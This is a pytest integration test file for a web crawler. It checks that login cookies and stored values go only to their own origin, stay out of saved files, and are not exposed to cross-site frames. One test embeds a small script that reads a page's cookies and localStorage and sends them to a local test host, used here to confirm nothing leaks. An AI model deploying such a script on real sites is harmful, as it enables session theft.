"""A crawl with a login: who is told the cookies and the storage, and who is not."""

from pathlib import Path

import pytest
from msgspec import structs

from gossamer.model.crawl_state import CrawlState
from gossamer.model.errors import UsageError
from gossamer.model.outcome import PAGES, Outcome
from gossamer.model.secrets import Login, LoginCookie, OriginSecrets, Secrets
from gossamer.model.settings.crawl_settings import CrawlSettings
from gossamer.model.settings.rendering_settings import RenderMode
from gossamer.render.browser_discovery import find_browsers
from tests.integration.crawling import closing, records, run, sessions, until, until_rest
from tests.sites import Response, Site
from tests.sites.cookie_sites import told
from tests.sites.ledger import Request
from tests.sites.login_site import SESSION, TOKEN, LoginSite
from tests.sites.responses import html_page

LOGIN = Login(
    cookies=(LoginCookie("session", SESSION), LoginCookie("half", "1", "/code")),
    local_storage=(("token", TOKEN),),
)


def crawled(path: Path, site: Site, **changes: object) -> dict[str, Outcome]:
    """The outcomes of a crawl with the login, by path."""
    origin = site.url("/").rstrip("/")
    settings = structs.replace(CrawlSettings(roots=(site.url("/"),)), **changes)
    bound = Secrets({origin: OriginSecrets(login=LOGIN)})

    async def main() -> None:
        async with closing(sessions().create(settings, path, bound=bound)) as session:
            await session.start()
            assert await until_rest(session) is CrawlState.FINISHED

    run(main())
    return {url.removeprefix(origin): row.outcome for url, row in records(path).items()}


def test_the_cookies_of_a_login_are_sent_to_their_origin_and_path_alone(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    with Site("127.0.0.1") as other:
        other.page("/")
        site.page("/", links=["/account", "/code", other.url("/")])
        path = tmp_path / "a.gossamer"
        outcomes = crawled(path, site, check_external=True)
        assert other.paths
        assert not any(request.header("Cookie") for request in other.requests)
    assert outcomes["/account"] in PAGES
    by_path = {request.path: told(request) for request in site.requests}
    assert by_path["/account"] == {"session": SESSION}
    assert by_path["/code"] == {"half": "1", "session": SESSION}
    assert SESSION.encode() not in path.read_bytes()


def test_a_cookie_that_the_server_sets_anew_replaces_that_of_the_login(
    site: Site, tmp_path: Path
) -> None:
    fresh = ("Set-Cookie", "session=renewed; Path=/")
    site.page("/", links=["/a"], headers=[fresh])
    site.page("/a")
    crawled(tmp_path / "a.gossamer", site)
    sent = {request.path: told(request).get("session") for request in site.requests}
    assert sent["/"] == SESSION
    assert sent["/a"] == "renewed"


def test_a_project_names_the_login_that_it_needs_and_asks_for_it(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    path = tmp_path / "a.gossamer"
    crawled(path, site)
    session = sessions().open(path)
    (needed,) = session.missing_secrets
    assert needed.login
    assert TOKEN.encode() not in path.read_bytes()
    with pytest.raises(UsageError, match="This crawl needs the login for http"):
        run(session.start())


def test_a_login_that_expires_pauses_the_crawl_until_somebody_has_logged_in_again(
    site: Site, tmp_path: Path
) -> None:
    pages = [f"/m/{number}" for number in range(8)]
    members = LoginSite(site, pages)

    def expire(_: Request) -> Response:
        members.session = "another"
        return Response(body=html_page("expired", ()))

    site.page("/", links=[*pages[:3], "/expire", *pages[3:]])
    site.answer("/expire", expire)
    origin = site.url("/").rstrip("/")
    settings = CrawlSettings(roots=(site.url("/"),), workers=1)
    anew = Login(cookies=(LoginCookie("session", "another"),))

    async def main() -> None:
        bound = Secrets({origin: OriginSecrets(login=LOGIN)})
        path = tmp_path / "a.gossamer"
        async with closing(sessions().create(settings, path, bound=bound)) as session:
            await session.start()
            await until(session, lambda progress: progress.state is CrawlState.PAUSED)
            assert "Log in again" in str(session.progress.notice)
            await session.change({}, Secrets({origin: OriginSecrets(login=anew)}))
            await session.start()
            assert await until_rest(session) is CrawlState.FINISHED

    run(main())
    told_last = {request.path: told(request).get("session") for request in site.requests}
    assert told_last["/m/7"] == "another"


def test_a_crawl_with_a_login_does_not_sign_out(site: Site, tmp_path: Path) -> None:
    LoginSite(site)
    site.page("/", links=["/logout", "/account", "/posts/1/delete"])
    site.page("/logout")
    outcomes = crawled(tmp_path / "a.gossamer", site)
    assert outcomes["/logout"] is outcomes["/posts/1/delete"] is Outcome.ENDS_SESSION
    assert not {"/logout", "/posts/1/delete"} & set(site.paths)


@pytest.mark.skipif(not find_browsers(), reason="there is no browser that renders")
def test_stored_values_are_there_before_the_scripts_of_a_rendered_page(
    site: Site, tmp_path: Path
) -> None:
    LoginSite(site)
    outcomes = crawled(tmp_path / "a.gossamer", site, render=RenderMode.ON)
    assert outcomes["/inside"] is Outcome.PAGE
    assert outcomes["/account"] is Outcome.PAGE


@pytest.mark.skipif(not find_browsers(), reason="there is no browser that renders")
def test_frames_of_other_sites_see_neither_cookies_nor_stored_values(
    site: Site, tmp_path: Path
) -> None:
    spy = """<script>
    let seen = document.cookie; try { seen += JSON.stringify(localStorage); } catch {}
    fetch('/seen?' + encodeURIComponent(seen));
    </script>"""
    with Site("127.0.0.1") as other:
        other.page("/spy", body=spy)
        other.generate(lambda path: Response() if path.startswith("/seen") else None)
        site.page("/", body=f"<iframe src={other.url('/spy')}></iframe>")
        crawled(tmp_path / "a.gossamer", site, render=RenderMode.ON)
        told_of = [path for path in other.paths if path.startswith("/seen")]
        assert told_of == ["/seen?%7B%7D"]
